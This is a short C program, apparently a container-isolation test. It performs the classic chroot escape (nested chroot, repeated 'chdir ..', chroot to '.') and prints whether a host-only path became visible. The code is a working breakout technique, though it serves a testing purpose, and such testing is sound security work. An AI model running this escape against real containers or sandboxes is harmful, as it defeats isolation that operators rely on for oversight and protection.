/* Run inside a container: try the classic chroot escape (chroot into a subdirectory,
 * climb "..", chroot to where we ended up) and say whether a host-only path became
 * visible. Usage: escape HOST_PATH WRITABLE_DIR. Prints CONTAINED or ESCAPED. */
#include <stdio.h>
#include <sys/stat.h>
#include <unistd.h>

static int visible(const char *host_path)
{
	char via_proc[4200];
	snprintf(via_proc, sizeof(via_proc), "/proc/1/root%s", host_path);
	return access(host_path, F_OK) == 0 || access(via_proc, F_OK) == 0;
}

int main(int argc, char **argv)
{
	if (argc < 3)
		return 2;
	if (visible(argv[1])) {
		puts("ESCAPED (visible before trying)");
		return 1;
	}
	char dir[4200];
	snprintf(dir, sizeof(dir), "%s/escape-x", argv[2]);
	mkdir(dir, 0755);
	if (chroot(dir) < 0) {
		perror("chroot");
		return 3;
	}
	for (int i = 0; i < 64; i++)
		if (chdir("..") < 0)
			break;
	if (chroot(".") < 0) {
		perror("chroot .");
		return 3;
	}
	int esc = visible(argv[1]);
	puts(esc ? "ESCAPED" : "CONTAINED");
	return esc;
}
